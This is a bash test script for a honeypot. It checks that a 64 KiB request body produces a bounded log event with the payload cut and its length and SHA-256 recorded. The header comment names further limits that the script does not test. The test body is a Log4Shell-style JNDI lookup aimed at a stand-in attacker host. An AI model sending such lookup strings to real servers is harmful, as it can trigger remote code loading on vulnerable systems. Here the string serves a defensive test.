#!/usr/bin/env bash
# honeypot_limits.sh -- logs must not amplify and nothing is silently left
# unscanned: a long payload makes a bounded event (fields cut, hashed); a
# flood from many addresses meets the global events-per-second ceiling and
# is summarised in "suppressed" events; an fd limit below max_connections
# is warned about and refused connections are counted; headers past the
# 100th, chunk extensions, chunked trailers and long LDAP DNs are scanned.
source "$(dirname "$0")/honeypot/common.sh"

read -r PW PL < <(freeports 2)
cat >"$T/hp.conf" <<CONF
node limits-test
log_file $T/events.jsonl
dedup_window 0
rate_per_source 1000000
rate_burst 1000000
max_body 128K
max_message 128K
[listener web]
protocol http
listen 127.0.0.1:$PW
[listener ldap]
protocol ldap
listen 127.0.0.1:$PL
CONF
hp_start "$T/hp.conf"
EV=$T/events.jsonl
U=http://127.0.0.1:$PW

# ---- item 11: a 64 KiB payload makes a bounded event --------------------------
python3 - "$T/body" <<'PY'
import sys
open(sys.argv[1], "w").write("${jndi:ldap://long.attacker.test/" + "A" * 65536 + "}")
PY
curl -sS -o /dev/null --data-binary @"$T/body" "$U/long"
wait_events "$EV" '"uri":"/long"'
size=$(grep -F '"uri":"/long"' "$EV" | wc -c)
echo "64 KiB body: event of $size bytes"
python3 - "$EV" "$T/body" <<'PY' || fail "long payload: event not bounded as documented"
import hashlib, json, sys
body = open(sys.argv[2], "rb").read()
ev = [json.loads(l) for l in open(sys.argv[1]) if '"/long"' in l][0]
f = [x for x in ev["findings"] if x["where"] == "body"][0]
assert f["truncated"] is True, f.keys()
assert f["payload_length"] == len(body), f["payload_length"]
assert f["payload_sha256"] == hashlib.sha256(body).hexdigest()
assert body.decode().startswith(f["payload"]) and len(f["payload"]) < 8192
PY
[ "$size" -lt 40000 ] || fail "64 KiB body made a $size-byte event"
ok "64 KiB payload: event of $size bytes, payload cut with its length and SHA-256"
echo "PASS"
